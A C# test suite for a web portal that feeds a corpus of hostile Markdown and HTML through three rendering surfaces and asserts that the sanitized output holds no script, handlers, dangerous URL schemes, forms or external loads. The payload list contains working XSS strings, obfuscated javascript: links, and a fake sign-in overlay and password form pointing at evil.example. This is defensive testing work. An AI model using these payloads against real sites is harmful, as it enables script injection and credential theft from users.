using AngleSharp.Html.Parser;
using Bunit;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using MudBlazor.Services;
using Portal.Web.Features.Releases;
using Portal.Web.Features.Design;
using Portal.Web.Features.Projects;
using Portal.Web.Features.Tasks;
using Portal.Web.Infrastructure;
using Portal.Web.Tests.Design;

namespace Portal.Web.Tests.Security;

/// <summary>
/// Hostile Markdown stored on every surface that renders Markdown (as text written before any up-front check, or
/// imported), read back the way its page reads it, and the HTML parsed: no element or attribute that runs script,
/// loads another site's content, or lets the text dress the page as something else.
/// </summary>
public sealed class MarkdownSurfaceTests : IClassFixture<MarkdownSurfaceTests.Surfaces>
{
    public sealed class Surfaces : IDisposable
    {
        public FeatureDatabase Db { get; } = new();
        public void Dispose() => Db.Dispose();

        public async Task<string> RenderAsync(string surface, string markdown)
        {
            var projectId = await Db.AddProjectAsync($"P{Guid.NewGuid():N}");
            switch (surface)
            {
                case "design document":
                {
                    var author = await Db.AddUserAsync($"author{Guid.NewGuid():N}", "Lead");
                    await using var db = Db.CreateDbContext();
                    var doc = new DesignDocument { ProjectId = projectId, Title = "Loss design", AuthorId = author.UserId, CreatedAt = Db.Clock.GetUtcNow() };
                    doc.Versions.Add(new DesignDocumentVersion { Number = 1, Markdown = markdown, AuthorId = author.UserId, CreatedAt = Db.Clock.GetUtcNow() });
                    db.DesignDocuments.Add(doc);
                    await db.SaveChangesAsync();
                    var service = new DesignDocumentService(Db, Db.Markdown, Db.Live, Db.Inbox, Db.Clock);
                    return (await service.GetVersionAsync(doc.Id, 1)).Html;
                }
                case "task description":
                {
                    await using var db = Db.CreateDbContext();
                    var task = new ProjectTask { ProjectId = projectId, Title = "Check the anchors", DescriptionMarkdown = markdown, CreatedAt = Db.Clock.GetUtcNow(), UpdatedAt = Db.Clock.GetUtcNow() };
                    db.Tasks.Add(task);
                    await db.SaveChangesAsync();
                    return (await new TaskBoard(Db, Db.Markdown).GetTaskAsync(task.Id)).DescriptionHtml;
                }
                case "model card":
                {
                    // The card as stored (an import or an older version may have skipped the up-front check), shown by
                    // ModelCardPanel itself as the release page shows it.
                    var lead = await Db.AddUserAsync($"lead{Guid.NewGuid():N}", "Lead");
                    var releases = Db.Get<ReleaseService>();
                    var releaseId = await releases.CreateAsync(lead, projectId, new ReleaseInput("Card-Net", "1.0", "416", "abcdef1", ReleaseDefaults.RequiredStages));
                    await using (var db = Db.CreateDbContext())
                        await db.Releases.Where(r => r.Id == releaseId).ExecuteUpdateAsync(u => u.SetProperty(r => r.ModelCardMarkdown, markdown));
                    var view = await releases.GetAsync(releaseId);
                    await using var bunit = new BunitContext();
                    bunit.JSInterop.Mode = JSRuntimeMode.Loose;
                    bunit.Services.AddMudServices();
                    bunit.Services.AddFallbackServiceProvider(Db.Services);
                    var panel = bunit.Render<ModelCardPanel>(p => p.Add(x => x.View, view).Add(x => x.Actor, lead));
                    return panel.Find("[data-testid=model-card] .portal-markdown").InnerHtml;
                }
                default:
                    throw new ArgumentOutOfRangeException(nameof(surface));
            }
        }
    }

    private static readonly string[] SurfaceNames = ["design document", "task description", "model card"];

    private static readonly string[] Payloads =
    [
        "<script>alert(1)</script>",
        "before <script src=\"https://evil.example/x.js\"></script> after",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><circle r=5/></svg>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text y=\"20\">x</text></a></svg>",
        "[click](javascript:alert(1))",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">entity</a>",
        "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">hex entities</a>",
        "<a href=\"java&#09;script:alert(1)\">tab</a>",
        "<a href=\"  javascript:alert(1)\">leading spaces</a>",
        "[x][ref]\n\n[ref]: javascript:alert(1)",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "<a href=\"data:text/html,<script>alert(1)</script>\">data</a>",
        "<a href=\"vbscript:msgbox(1)\">vb</a>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<frameset><frame src=\"https://evil.example\"></frameset>",
        "<object data=\"https://evil.example/x.swf\"></object>",
        "<embed src=\"https://evil.example/x.swf\">",
        "<style>body{display:none}</style>",
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:9999\"><h1>Portal</h1><p>Your session expired.</p><a href=\"https://evil.example/login\">Sign in again</a></div>",
        "<p style=\"font-size:200px\">big</p>",
        "<div style=\"background:url(javascript:alert(1))\">bg</div>",
        "<form action=\"https://evil.example/steal\" method=\"post\"><input name=\"password\" type=\"password\"><button>Sign in</button></form>",
        "<input type=\"password\" name=\"p\" placeholder=\"Password\">",
        "<button onclick=\"alert(1)\">x</button>",
        "<textarea>x</textarea>",
        "<select><option>1</option></select>",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
        "<base href=\"https://evil.example/\">",
        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
        "<div class=\"mud-overlay mud-overlay-dialog\">overlay</div>",
        "<div id=\"app\">shadow</div>",
        "<img src=\"https://tracker.example/pixel.png\">",
        "![pixel](https://tracker.example/pixel.png)",
        "<img src=\"//tracker.example/pixel.png\">",
        "<img srcset=\"https://evil.example/a.png 1x\">",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<details open ontoggle=alert(1)>x</details>",
        "<body onload=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<a href=\"https://example.org\" target=\"_blank\">new tab</a>",
        "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<dialog open>Session expired. Sign in</dialog>",
        "<template><script>alert(1)</script></template>",
        "<isindex action=\"javascript:alert(1)\">",
        "- [x] a task-list box\n- [ ] another",
    ];

    private static readonly HashSet<string> ForbiddenElements = new(StringComparer.OrdinalIgnoreCase)
    {
        "script", "style", "iframe", "frame", "frameset", "object", "embed", "form", "input", "button", "select", "option",
        "textarea", "meta", "base", "link", "svg", "math", "video", "audio", "source", "dialog", "template", "noscript", "isindex",
    };

    private static readonly HashSet<string> ForbiddenAttributes = new(StringComparer.OrdinalIgnoreCase)
    {
        "style", "class", "id", "srcdoc", "srcset", "action", "formaction", "target", "background", "xlink:href", "name",
    };

    public static TheoryData<string, int> Cases()
    {
        var data = new TheoryData<string, int>();
        foreach (var surface in SurfaceNames)
            for (var i = 0; i < Payloads.Length; i++)
                data.Add(surface, i);
        return data;
    }

    private readonly Surfaces _surfaces;
    public MarkdownSurfaceTests(Surfaces surfaces) => _surfaces = surfaces;

    [Fact]
    public void The_corpus_has_at_least_forty_payloads() => Assert.True(Payloads.Length >= 40);

    [Theory]
    [MemberData(nameof(Cases))]
    public async Task Hostile_markdown_renders_without_anything_dangerous(string surface, int payload)
    {
        var html = await _surfaces.RenderAsync(surface, "Some text.\n\n" + Payloads[payload] + "\n\nMore text.");

        var document = new HtmlParser().ParseDocument("<!DOCTYPE html><html><body>" + html + "</body></html>");
        foreach (var element in document.Body!.QuerySelectorAll("*"))
        {
            Assert.DoesNotContain(element.LocalName, ForbiddenElements);
            foreach (var attribute in element.Attributes)
            {
                Assert.False(attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase), $"{attribute.Name} on <{element.LocalName}>");
                Assert.DoesNotContain(attribute.Name, ForbiddenAttributes);
                if (attribute.Name is "href" or "src" or "cite" or "poster" or "data")
                {
                    var value = new string(attribute.Value.Where(c => !char.IsWhiteSpace(c) && !char.IsControl(c)).ToArray()).ToLowerInvariant();
                    Assert.False(value.StartsWith("javascript:") || value.StartsWith("data:") || value.StartsWith("vbscript:"), $"{attribute.Name}={attribute.Value}");
                }
            }
            if (element.LocalName == "img")
            {
                var src = element.GetAttribute("src") ?? "";
                Assert.False(src.StartsWith("//") || Uri.TryCreate(src, UriKind.Absolute, out _), $"external image {src}");
            }
        }
        Assert.Contains("Some text.", document.Body.TextContent);
    }

    [Fact]
    public void An_external_image_is_shown_as_a_link_to_it()
    {
        var html = new MarkdownRenderer().ToSafeHtml("![the loss curve](https://example.org/loss.png)");
        var link = new HtmlParser().ParseDocument(html).QuerySelector("a")!;
        Assert.Equal("https://example.org/loss.png", link.GetAttribute("href"));
        Assert.Contains("the loss curve", link.TextContent);
    }
}
